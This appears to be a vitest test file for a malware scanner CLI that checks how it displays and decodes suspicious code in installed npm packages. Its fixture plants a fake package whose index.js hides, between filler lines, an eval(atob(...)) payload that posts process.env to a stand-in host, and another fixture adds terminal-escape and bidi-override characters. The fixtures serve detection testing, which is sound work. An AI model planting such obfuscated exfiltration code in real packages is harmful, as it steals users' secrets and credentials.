import { describe, expect, test } from 'vitest';
import { main } from '../src/cli.js';
import { cleanUp, plant } from './fixtures/read/plant.js';

cleanUp();

const hidden = `fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(process.env) });`;
const filler = Array.from({ length: 30 }, (_, at) => `exports.f${at} = a => a + ${at};\n`).join('');
const files = {
  'package.json': { name: 'mine', version: '1.0.0' },
  'node_modules/thief/package.json': { name: 'thief', version: '1.2.3', main: 'index.js' },
  'node_modules/thief/index.js': `${filler}eval(atob('${Buffer.from(hidden).toString('base64')}'));\n${filler}`,
  'node_modules/thief/other.js': 'module.exports = 1;\n',
};

async function show(...argv: readonly string[]) {
  const [out, err] = [[] as string[], [] as string[]];
  const code = await main(['show', ...argv], {
    stdout: { write: text => out.push(text) },
    stderr: { write: text => err.push(text) },
    env: {},
    cwd: plant(files),
  });
  return { code, out: out.join(''), err: err.join('') };
}

describe('stowaway show', () => {
  test('marks findings where they stand, and opens what is decoded in place', async () => {
    const { code, out } = await show('thief');
    expect(code).toBe(0);
    expect(out).toMatch(/^thief@1\.2\.3: malicious, score \d+\n\nindex\.js\n/);
    expect(out).toMatch(/⋮ 27 lines\n {3}28 │/);
    expect(out).toMatch(/ 31 │ eval\(atob\('/);
    expect(out).toMatch(/╭─ text decoded by base64, \d+ characters\n {7}│ {5}1 │ fetch\(/);
    expect(out).toMatch(/▲ source \(1 of 3\): reads the whole environment/);
    expect(out).toMatch(/sends-environment/);
  });

  test('shows all of a file that is named', async () => {
    const { out } = await show('thief@1.2.3', 'index.js');
    expect(out).not.toContain('⋮');
    expect(out).toContain(' 61 │ exports.f29');
  });

  test.each([
    [['nobody'], 'stowaway: nobody is not installed here: there is no node_modules/nobody\n'],
    [['thief', 'index.ts'], 'stowaway: nothing was found in a file index.ts; did you mean index.js?\n'],
  ])('says what is wrong with %o', async (argv, says) => {
    expect(await show(...argv)).toEqual({ code: 2, out: '', err: says });
  });

  test('escapes what comes from the package', async () => {
    const evil = {
      ...files,
      'node_modules/thief/index.js': `${files['node_modules/thief/index.js']}// \u001b[2J\u202e\n`,
    };
    const out: string[] = [];
    await main(['show', 'thief', 'index.js'], {
      stdout: { write: text => out.push(text) },
      stderr: { write: () => {} },
      env: {},
      cwd: plant(evil),
    });
    expect(out.join('')).toContain('// \\u{1b}[2J\\u{202e}');
    expect(out.join('')).not.toMatch(/[\u001b\u202e]/);
  });
});
